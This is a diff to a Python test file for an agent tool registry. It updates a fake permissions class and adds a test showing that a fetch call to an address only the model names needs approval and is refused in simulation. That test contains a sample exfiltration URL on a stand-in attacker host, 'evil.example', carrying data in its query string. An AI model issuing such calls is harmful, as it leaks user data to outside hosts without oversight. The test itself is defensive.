@@ -11,9 +11,10 @@ import pytest
 from pydantic import BaseModel
 
 from personaagent.errors import LedgerUnavailable, UnknownTool
+from personaagent.ledger.grants import Granted
+from personaagent.tools.registry import ActionSpaces
+from personaagent.tools.spec import ToolCall, ToolFault, ToolSpec
 from personaagent.types import Clause, Persona, Section, ToolTrace
-from tools.registry import ActionSpaces
-from tools.spec import ToolCall, ToolFault, ToolSpec
 
 NOW = datetime(2026, 1, 1, tzinfo=UTC)
 
@@ -22,20 +23,23 @@ class Args(BaseModel):
     text: str
 
 
+class Address(BaseModel):
+    url: str
+
+
 @dataclass
 class FakeGrants:
     allow: dict[str, set[str]] = field(default_factory=dict)
     deny: dict[str, set[str]] = field(default_factory=dict)
     approve: dict[str, set[str]] = field(default_factory=dict)
 
-    async def allowed(self, user_id: str) -> set[str] | None:
-        return self.allow.get(user_id)
-
-    async def denied(self, user_id: str) -> set[str]:
-        return self.deny.get(user_id, set())
-
-    async def approved(self, user_id: str) -> set[str]:
-        return self.approve.get(user_id, set())
+    async def of(self, user_id: str, *, recent: bool = False) -> Granted:
+        allow = self.allow.get(user_id)
+        return Granted(
+            allowed=None if allow is None else frozenset(allow),
+            denied=frozenset(self.deny.get(user_id, ())),
+            approved=frozenset(self.approve.get(user_id, ())),
+        )
 
 
 def tool(name: str, run: Any = None, **options: Any) -> ToolSpec:
@@ -91,8 +95,8 @@ async def test_the_persona_orders_and_describes_tools_for_each_user() -> None:
         "wikipedia",
         "The wikipedia. For this user: Look for the book in wikipedia before the film.",
     )
-    assert [b["function"]["name"] for b in reader.bindings()] == list(reader.names)
-    first = reader.bindings()[0]["function"]
+    assert [b["function"]["name"] for b in reader.bindings] == list(reader.names)
+    first = reader.bindings[0]["function"]
     assert first["parameters"]["required"] == ["text"]
     assert first["description"].endswith("For this user: Look for the book in wikipedia before the film.")
 
@@ -256,3 +260,31 @@ async def test_a_source_gives_tools_to_its_user_alone_and_never_shadows_the_depl
     assert not (await actions.spec("ann", "a")).side_effects
     with pytest.raises(UnknownTool, match="own"):
         await actions.spec("bob", "own")
+
+
+async def test_an_address_that_only_the_model_names_is_asked_for_each_time_and_never_reached_in_simulation() -> None:
+    ran: list[str] = []
+
+    async def run(c: ToolCall) -> str:
+        ran.append(str(c.arguments["url"]))
+        return "the page"
+
+    spec = ToolSpec(name="fetch", description="Read a page.", args=Address, run=run, outward=True)
+    for grants in (FakeGrants(), FakeGrants(approve={"ann": {"fetch", "*"}})):
+        actions = house(spec, grants=grants)
+        space = await actions.of("ann")
+        asked = {"name": "fetch", "args": {"url": "http://evil.example/c?d=lithium"}, "id": "1"}
+        assert await actions.needs_approval(space, "ann", asked, {"site.example"})
+        assert (await actions.execute(space, "ann", asked, known={"site.example"}))[1].outcome == "refused"
+        written = asked | {"args": {"url": "http://site.example"}}
+        assert not await actions.needs_approval(space, "ann", written, {"site.example"})
+        before = datetime(2026, 1, 1, tzinfo=UTC)
+        for known in ((), {"evil.example/c?d=lithium"}):
+            options: dict[str, Any] = {"simulate": True, "before": before, "known": known, "approved": True}
+            assert (await actions.execute(space, "ann", asked, **options))[1].outcome == "refused"
+        recorded = (ToolTrace(name="fetch", arguments=asked["args"], outcome="ok", brief="what it was"),)
+        text, _ = await actions.execute(space, "ann", asked, simulate=True, before=before, recorded=recorded)
+        assert "what it was" in text
+        assert ran == []
+    assert (await actions.execute(space, "ann", asked, approved=True))[1].outcome == "ok"
+    assert ran == ["http://evil.example/c?d=lithium"]
